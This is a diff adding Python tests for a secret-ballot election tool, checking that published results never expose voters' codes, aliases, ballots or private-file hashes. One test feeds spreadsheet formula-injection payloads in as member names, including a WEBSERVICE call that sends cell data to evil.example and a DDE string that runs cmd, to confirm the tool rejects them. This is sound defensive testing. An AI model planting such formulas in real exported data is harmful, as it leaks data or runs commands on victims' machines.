@@ -1,0 +1,189 @@
+"""What somebody tries who wants to know who voted what in a secret vote, and what a slip of the secretary's hand would tell."""
+
+import pathlib
+import shutil
+import sys
+
+import support
+from secret_votes import BALLOTS, MEMBERS, SecretTest
+
+
+class OpenPublication(SecretTest):
+    """A secret vote is not published with its names, wherever its files are taken from."""
+
+    def publish_openly(self, poll: object, ballots: object) -> support.Ended:
+        target = self.scratch / "open"
+        ended = self.run_program(sys.executable, support.PUBLISH, "--poll", poll, "--ballots", ballots, "--even-so", target)
+        self.assertEqual(target.exists(), ended.status != 9, ended)
+        return ended
+
+    def test_the_files_that_the_election_keeps(self) -> None:
+        self.closed()
+        (self.folder / "drafts" / "monday").mkdir(parents=True)
+        for name in ("poll.toml", "ballots"):
+            shutil.copy(self.folder / name, self.folder / "drafts" / "monday")
+        received = next((self.folder / "received").iterdir()).relative_to(self.folder)
+        for poll, ballots in [
+            ("backup/poll.toml.called", "backup/ballots.closed"),
+            ("backup/poll.toml.called", received),
+            ("drafts/monday/poll.toml", "drafts/monday/ballots"),
+        ]:
+            with self.subTest(poll=poll, ballots=ballots):
+                ended = self.publish_openly(poll, ballots)
+                codes = pathlib.Path(self.folder).resolve() / "private" / "codes.csv"
+                self.assert_fault(ended, 9, "would publish each name with its vote", f"--secret {codes}")
+
+    def test_an_open_vote_in_the_folder_of_a_secret_one(self) -> None:
+        self.closed()
+        self.assertEqual(self.election("new", "other").status, 0)
+        self.write("other/poll.toml", self.poll)
+        self.write("other/ballots", BALLOTS)
+        self.assertEqual(self.publish_openly("other/poll.toml", "other/ballots").status, 0)
+
+    def test_copies_elsewhere(self) -> None:
+        self.done("codes")
+        # nothing is left of what `codes` has noted
+        elsewhere = self.scratch / "elsewhere"
+        elsewhere.mkdir()
+        shutil.copy(self.folder / "poll.toml", elsewhere)
+        (elsewhere / "ballots").write_text(BALLOTS)
+        said = "it says that the vote is secret, and this would publish each name with its vote"
+        self.assert_fault(self.publish_openly(elsewhere / "poll.toml", elsewhere / "ballots"), 9, said)
+        (elsewhere / "hard").hardlink_to(self.folder / "poll.toml")
+        self.assert_fault(self.publish_openly(elsewhere / "hard", elsewhere / "ballots"), 9, said)
+        (elsewhere / "stripped").write_bytes(b"\r\n".join(self.read("poll.toml").split(b"\n")))
+        self.assert_fault(self.publish_openly(elsewhere / "stripped", elsewhere / "ballots"), 9, said)
+        for command in ("publish", "call"):
+            ended = self.election("--folder", elsewhere, command, "--even-so" if command == "publish" else "--no-roll")
+            self.assertEqual((ended.status, (elsewhere / "result").exists(), (elsewhere / "call").exists()), (9, False, False))
+
+    def test_the_line_of_the_poll_comes_once_and_is_not_published(self) -> None:
+        self.done("codes")
+        line = b"# The vote is secret: "
+        self.assertTrue(self.read("poll.toml").startswith(line))
+        self.done("codes")
+        self.assertEqual(self.read("poll.toml").count(line), 1)
+        self.done("roll")
+        self.assertEqual(self.read("poll.toml").count(line), 1)
+        self.done("call")
+        before = self.read("poll.toml")
+        self.done("codes")
+        self.assertEqual(self.read("poll.toml"), before)
+        self.assertNotIn(line, self.read("call/poll.toml"))
+
+
+class TwoPublications(SecretTest):
+    """A second publication beside a first one tells whose ballots changed; the secretary is told before it is put on the web."""
+
+    def correct(self) -> None:
+        self.write("ballots", self.read("ballots") + b"hal 1,2,4,3\n")
+        self.write("poll.toml", self.read("poll.toml").replace(b"last_envelope = 8", b"last_envelope = 9"))
+
+    def test_elsewhere(self) -> None:
+        self.closed()
+        web = self.scratch / "web"
+        web.mkdir()
+        (web / "other").mkdir()
+        (web / "page.html").write_text("another page")
+        self.assertNotIn("Note", self.done("publish", "--secret", web / "spring"))
+        self.correct()
+        output = self.done("publish", "--secret", "--even-so", web / "spring-2")
+        self.assertIn(f"Note: {web / 'spring'} has other ballots, or none, of 1 elector.", output)
+        self.assertNotIn("voters.txt", output)
+
+    def test_with_lists_of_voters(self) -> None:
+        self.closed()
+        self.done("publish", "--secret", "--voters")
+        self.correct()
+        output = self.done("publish", "--secret", "--voters", "--even-so", "result-2")
+        self.assertIn("Note: result has other ballots, or none, of 1 elector.\n", output)
+        self.assertIn("  The two files voters.txt differ, and name them: with both folders everybody knows.\n", output)
+
+
+class Codes(SecretTest):
+    """Codes tie no two votes together, and a member's name does nothing with them."""
+
+    def test_codes_of_an_earlier_vote_are_told(self) -> None:
+        self.assertNotIn("Note", self.done("codes"))
+        self.assertNotIn("Note", self.done("codes"))
+        later = self.scratch / "later"
+        later.mkdir()
+        for name in ("poll.toml", "members.csv"):
+            shutil.copy(self.folder / name, later)
+        shutil.copytree(self.folder / "private", later / "private")
+        output = self.done("codes", cwd=later)
+        self.assertIn("Note: private/codes.csv was there before codes were made for this vote.\n", output)
+        shutil.rmtree(later / "private")
+        (later / "journal").unlink()
+        self.assertNotIn("Note", self.done("codes", cwd=later))
+        aliases = [{line.rpartition(b",")[2] for line in (place / "private/codes.csv").read_bytes().splitlines()[1:]}
+                   for place in (self.folder, later)]  # fmt: skip
+        self.assertEqual((len(aliases[0]), aliases[0] & aliases[1]), (9, set()))
+
+    def test_a_name_that_a_spreadsheet_would_carry_out(self) -> None:
+        for said in ('"=WEBSERVICE(""http://evil.example/""&D3)"', "@SUM(D3)", "+cmd|' /C calc'!A0", '"-HYPERLINK(D3)"'):
+            with self.subTest(said=said):
+                self.write("members.csv", MEMBERS.replace("Ben <É>", said))
+                self.assert_fault(self.election("codes"), 9, "members.csv:3: a spreadsheet would take `", "for a formula")
+                self.assertFalse((self.folder / "private").exists())
+        self.write("members.csv", MEMBERS.replace("ben@club.example", "+49 30 123456").replace("Eve <É>", "-"))
+        self.done("codes")
+    def test_a_folder_that_others_may_look_into(self) -> None:
+        self.done("codes")
+        self.folder.chmod(0o750)
+        self.assert_fault(self.election("call"), 9, "others than you may use it (mode 750)", "chmod 700 .")
+        self.assertFalse((self.folder / "call").exists())
+        self.folder.chmod(0o700)
+        self.closed()
+        self.folder.chmod(0o705)
+        self.assertIn("Note: .: others than you may use it (mode 705)", self.done("status"))
+        self.assert_fault(self.election("publish", "--secret", "--even-so"), 9, "others than you may use it (mode 705)")
+        self.assertFalse((self.folder / "result").exists())
+
+
+class TextsForThePage(SecretTest):
+    """A text that is given for the page tells nothing that is private, whatever the slip of the hand."""
+
+    def setUp(self) -> None:
+        super().setUp()
+        self.closed()
+
+    def refused(self, *words: object, said: str) -> None:
+        self.assert_fault(self.election("publish", "--secret", "--even-so", *words), 9, said, "nothing was published")
+        self.assertFalse((self.folder / "result").exists())
+
+    def test_a_file_of_the_election(self) -> None:
+        received = next((self.folder / "received").iterdir()).relative_to(self.folder)
+        (self.folder / "link.txt").symlink_to("members.csv")
+        private = ["ballots", "poll.toml", "members.csv", "journal", received, "backup/ballots.closed", "private/slips.html"]
+        for file in [*private, "link.txt"]:
+            with self.subTest(file=file):
+                self.refused("--about", file, said=f"{file}: it is a file of the election that nobody else may see")
+
+    def test_what_stands_in_one(self) -> None:
+        elector = self.rows()[0]
+        spaced = " ".join(elector["code"][place : place + 4] for place in range(0, 32, 4))
+        ballots_sum, now = (self.run_program("sha256sum", name).output[:64] for name in ("ballots", "poll.toml"))
+        called = self.run_program("sha256sum", "backup/poll.toml.called").output[:64]
+        for text, said in [
+            (f"Your code is {elector['code']}.", "it has the code of an elector"),
+            (f"Your code is {spaced.upper()}.", "it has the code of an elector"),
+            (self.read("private/slips.html").decode(), "it has the code of an elector"),
+            (f"Ada is {elector['alias'].upper()}", "it has the alias of an elector"),
+            ("So voted:\nAda  2, 1,-,3\n", "it has a ballot with the name of its elector"),
+            (BALLOTS, "it has a ballot with the name of its elector"),
+            (f"Sum of ballots: {ballots_sum}", "it has the sum of a private file"),
+            (f"Sum of poll.toml as it is now: {now}", "it has the sum of a private file"),
+            (f"Sum of poll.toml as it was: {called}", "it has the sum of a private file"),
+        ]:
+            with self.subTest(text=text[:80]):
+                self.write("about.txt", text)
+                self.refused("--about", "about.txt", said=f"about.txt: {said}")
+        self.write("labels.txt", f"0\tOf ada: {elector['code']}\n")
+        self.refused("--labels", "labels.txt", said="labels.txt: it has the code of an elector")
+
+    def test_what_a_secretary_writes(self) -> None:
+        announced = self.run_program("sha256sum", "call/poll.toml").output[:64]
+        self.write("about.txt", f"Certified on 4 December 2026 by Ada, 3 Lake Road, and Ben. The call announced {announced}.\n")
+        self.write("labels.txt", "0\tWo wir uns treffen\n1\tAm See\n")
+        self.done("publish", "--secret", "--about", "about.txt", "--labels", "labels.txt")
